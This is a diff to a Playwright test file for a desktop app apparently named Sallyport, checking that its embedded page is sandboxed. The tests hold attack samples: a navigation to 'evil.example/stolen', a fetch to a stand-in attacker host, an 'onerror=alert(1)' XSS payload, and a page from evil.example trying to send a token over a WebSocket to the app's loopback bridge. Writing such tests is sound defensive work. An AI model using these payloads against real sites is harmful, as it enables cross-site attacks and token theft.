@@ -89,24 +89,23 @@ describe.skipIf(desktopMissing() !== null)('the app and its page (needs Chromium
 
   test('the page cannot leave, load from elsewhere, or make code of text', async () => {
     const { page } = grace.app
-    const outcome = await page.evaluate(async () => {
-      const tried = async (work: () => unknown): Promise<string> => {
+    const outcome = await page.evaluate<unknown>(`(async () => {
+      const tried = async (work) => {
         try {
           await work()
           return 'done'
         } catch (error) {
-          return (error as Error).name
+          return error.name
         }
       }
       return {
         network: await tried(() => fetch('https://evil.example/')),
-        evaluation: await tried(() => new Function('return 1')() as unknown),
+        evaluation: await tried(() => new Function('return 1')()),
         markup: await tried(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
-        node:
-          typeof (globalThis as Record<string, unknown>)['require'] + typeof (globalThis as Record<string, unknown>)['process'],
-        given: Object.keys((globalThis as unknown as { sallyport: object }).sallyport).toSorted(),
+        node: typeof globalThis.require + typeof globalThis.process,
+        given: Object.keys(window.sallyport).toSorted(),
       }
-    })
+    })()`)
     expect(outcome).toEqual({
       network: 'TypeError',
       evaluation: 'EvalError',
@@ -114,7 +113,7 @@ describe.skipIf(desktopMissing() !== null)('the app and its page (needs Chromium
       node: 'undefinedundefined',
       given: ['listen', 'send'],
     })
-    await page.evaluate(() => void (location.href = 'https://evil.example/stolen'))
+    await page.evaluate(`void (location.href = 'https://evil.example/stolen')`)
     await grace.app.until('the refusal', (state) => state.refused.includes('https://evil.example/stolen'))
     expect(await send(REQUEST)).toMatchObject({ result: { state: 'signed-in' } })
   })
@@ -128,7 +127,7 @@ describe.skipIf(desktopMissing() !== null)('the app and its page (needs Chromium
     await dialog.waitFor()
     expect(await dialog.count()).toBe(1)
     expect((await app.state()).window!.focused).toBe(before + 100)
-    expect(await app.page.evaluate(() => document.activeElement?.textContent)).toMatch(/Cancel/)
+    expect(await app.page.evaluate(`document.activeElement?.textContent`)).toMatch(/Cancel/)
     expect(await listener()).toBe('off')
     await app.page.keyboard.press('Enter')
     await dialog.waitFor({ state: 'detached' })
@@ -196,7 +195,7 @@ describe.skipIf(desktopMissing() !== null)('the page on loopback (needs Chromium
       .waitFor()
     expect(page.url()).not.toContain('token')
     expect(await chromium.context.cookies()).toEqual([])
-    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0])
+    expect(await page.evaluate(`[localStorage.length, sessionStorage.length]`)).toEqual([0, 0])
     await page.close()
   })
 
@@ -216,29 +215,24 @@ describe.skipIf(desktopMissing() !== null)('the page on loopback (needs Chromium
     const page = await chromium.context.newPage()
     await page.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<title>evil</title>' }))
     await page.goto('http://evil.example/')
-    const outcome = await page.evaluate(
-      async ({ origin, host, token }) => {
-        const fetched = await fetch(`${origin}/`).then(
-          () => 'read',
-          () => 'refused',
-        )
-        const spoke = await new Promise<string>((resolve) => {
-          const socket = new WebSocket(`ws://${host}/bridge`)
-          socket.addEventListener('open', () => socket.send(JSON.stringify({ hello: 1, token })))
-          socket.addEventListener('message', () => resolve('answered'))
-          socket.addEventListener('close', () => resolve('refused'))
-        })
-        const frame = document.createElement('iframe')
-        frame.src = `${origin}/`
-        const framed = await new Promise<string>((resolve) => {
-          frame.addEventListener('load', () => resolve(frame.contentDocument === null ? 'closed' : 'open'))
-          document.body.append(frame)
-        })
-        return { fetched, spoke, framed }
-      },
-      { origin: url.origin, host: url.host, token: tokenOf(url) },
-    )
-    expect(outcome).toMatchObject({ fetched: 'refused', spoke: 'refused' })
+    const given = JSON.stringify({ origin: url.origin, host: url.host, token: tokenOf(url) })
+    const outcome = await page.evaluate<unknown>(`(async ({ origin, host, token }) => {
+      const fetched = await fetch(origin + '/').then(() => 'read', () => 'refused')
+      const spoke = await new Promise((resolve) => {
+        const socket = new WebSocket('ws://' + host + '/bridge')
+        socket.addEventListener('open', () => socket.send(JSON.stringify({ hello: 1, token })))
+        socket.addEventListener('message', () => resolve('answered'))
+        socket.addEventListener('close', () => resolve('refused'))
+      })
+      const frame = document.createElement('iframe')
+      frame.src = origin + '/'
+      await new Promise((resolve) => {
+        frame.addEventListener('load', resolve)
+        document.body.append(frame)
+      })
+      return { fetched, spoke }
+    })(${given})`)
+    expect(outcome).toEqual({ fetched: 'refused', spoke: 'refused' })
     for (const frame of page.frames().slice(1)) expect(await frame.content().catch(() => '')).not.toContain('Sallyport')
     await page.close()
     // The token was seen by nobody who may use it: it is still good for the person.
